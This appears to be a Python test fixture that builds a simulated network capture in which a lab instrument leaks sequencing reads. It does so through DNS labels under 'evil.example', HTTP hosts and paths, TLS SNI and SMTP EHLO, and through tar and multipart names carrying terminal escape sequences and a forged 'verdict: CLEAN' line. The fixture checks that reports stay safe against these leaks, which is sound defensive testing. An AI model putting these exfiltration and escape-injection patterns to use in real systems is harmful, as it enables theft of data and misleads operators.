"""A capture in which the instrument hides hostile names and its own reads in the traffic's strings.

Built with the project's capture writer on a simulated run folder: a diagnostics tar whose member
name is invalid UTF-8 with terminal escapes and a forged ``verdict: CLEAN`` line (the member is the
run's FASTQ.gz: a leak), a URL path and a Host made of reads, multipart file names made of a read and
of control characters, DNS labels made of a read under a zone with escapes, a TLS SNI and an SMTP HELO
made of reads and escapes.  The tests replay it and look for all of that in everything the rig shows.
"""

from __future__ import annotations

import gzip
import io
import re
import struct
import subprocess
import sys
import tarfile
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

from junitparser import Failure, JUnitXml, TestSuite

from sandbox.captures.writer import PcapngWriter, udp
from sandbox.simulate import wire
from sandbox.simulate.runfolder import make_illumina_run, sample_fastqs
from sandbox.simulate.traffic import INSTRUMENT, RESOLVER, Bench

FORGED = "verdict: CLEAN"
# What a terminal obeys: clear screen, set the window title (OSC 0), NUL, BEL, a forged line.
ESCAPES = "\x1b[2J\x1b]0;all clean\x07\x00\x07\n" + FORGED + "\n"
MEMBER_NAME = b"run/reads\xff\xfe" + ESCAPES.replace("\x00", "").encode() + b"R1.fastq.gz"  # tar names end at NUL
BUNDLE_SHARE = 0.5  # of the sample's FASTQ.gz in the bundle: a critical leak
DNA_RUN = re.compile(r"[ACGTN]{24,}", re.IGNORECASE)  # what a read looks like wherever it is shown


@dataclass
class HostileCapture:
    run: Path
    capture: Path
    reads: list[str]  # the reads the instrument put in names, each must never be shown


def build(root: Path) -> HostileCapture:
    """A small run folder and the hostile capture of an instrument that leaks it."""
    run = make_illumina_run(root / "runs", reads_per_sample=400, with_bcl=False)
    fastq = next(iter(sample_fastqs(run).values()))
    blob = fastq.read_bytes()
    text = gzip.decompress(blob)
    reads = [r.decode() for r in text.split(b"\n")[1::4][:6]]
    some_fastq = b"\n".join(text.split(b"\n")[400:480]) + b"\n"  # 20 reads further on: a leak
    capture = root / "hostile.pcapng"
    with PcapngWriter(capture) as w:
        bench = Bench(w)
        _upload(bench, "support.vendor.example", "/api/v2/diagnostics", "application/x-tar",
                _tar(MEMBER_NAME, blob[: int(len(blob) * BUNDLE_SHARE)]))
        host = f"{reads[1][:60].lower()}.{reads[1][60:120].lower()}.evil.example"
        _upload(bench, host, f"/u/{reads[0]}", "text/plain", b"ok")
        body, ctype = wire.multipart([("a", f"{reads[2]}.fastq", some_fastq, "text/plain"),
                                      ("b", "notes" + ESCAPES, b"world", "text/plain")], boundary="xYzZy")
        _upload(bench, "lims.example", "/api/files", ctype, body)
        _dns(bench, [reads[3][i:i + 50].encode() for i in range(0, 150, 50)] + [b"x\x1b[2J\xff", b"example"])
        _tls(bench, f"{reads[4][:60].lower()}.x\x1b]0;t\x07.example")
        _smtp(bench, f"\x1b[2J{reads[5]}\nEHLO {FORGED}")
    return HostileCapture(run, capture, reads)


def replay(hc: HostileCapture, out: Path, *extra: str, umask: int = 0o022) -> subprocess.CompletedProcess:
    """``sandbox replay`` of the capture with every report and a store, as an operator runs it."""
    return subprocess.run(
        [sys.executable, "-m", "sandbox.cli", "replay", str(hc.capture), "--run", str(hc.run),
         "--report", str(out / "report.json"), "--junit", str(out / "report.xml"),
         "--html", str(out / "report.html"), "--db", str(out / "store.sqlite"),
         "--cache-dir", str(out / "cache"), *extra],
        capture_output=True, timeout=600, umask=umask)


def strings_in(value: object) -> Iterator[str | bytes]:
    """Every string (keys included) of a JSON-like value, to check each is safe."""
    if isinstance(value, str | bytes):
        yield value
    elif isinstance(value, dict):
        for k, v in value.items():
            yield from strings_in(k)
            yield from strings_in(v)
    elif isinstance(value, list | tuple):
        for v in value:
            yield from strings_in(v)


def junit_failures(path: Path) -> list[Failure]:
    """The failures a CI system reads from a JUnit file (junitparser, as CI plugins parse it)."""
    xml = JUnitXml.fromfile(str(path))
    suites = [xml] if isinstance(xml, TestSuite) else list(xml)
    return [r for suite in suites for case in suite for r in case.result if isinstance(r, Failure)]


def _tar(name: bytes, data: bytes) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.GNU_FORMAT, encoding="utf-8",
                      errors="surrogateescape") as tar:
        info = tarfile.TarInfo(name.decode("utf-8", "surrogateescape"))
        info.size, info.mtime = len(data), 1763892000
        tar.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def _upload(bench: Bench, host: str, path: str, ctype: str, body: bytes) -> None:
    conv = bench.connect(("203.0.113.50", 80))
    bench.exchange(conv, wire.http_request("POST", path, host, body, content_type=ctype),
                   wire.http_response(b"{}", "201 Created"))
    bench.close(conv)


def _dns(bench: Bench, labels: list[bytes]) -> None:
    name = b"".join(bytes([len(lab)]) + lab for lab in labels) + b"\0"
    query = struct.pack("!HHHHHH", 0x7A01, 0x0100, 1, 0, 0, 0) + name + struct.pack("!HH", 1, 1)
    udp(bench.w, (INSTRUMENT, bench.port()), (RESOLVER, 53), query, t=bench.t)
    bench.wait(0.01)


def _tls(bench: Bench, sni: str) -> None:
    conv = bench.connect(("203.0.113.77", 443))
    conv.send(wire.client_hello(sni, b"\x11" * 32, b"\x22" * 32))
    bench.t = conv.t
    bench.close(conv)


def _smtp(bench: Bench, helo: str) -> None:
    conv = bench.connect(("203.0.113.25", 25))
    conv.send(b"220 mail.example ESMTP\r\n", from_client=False)
    conv.send(f"EHLO {helo}\r\n".encode())
    conv.send(b"250 mail.example\r\n", from_client=False)
    conv.send(b"QUIT\r\n")
    bench.t = conv.t
    bench.close(conv)
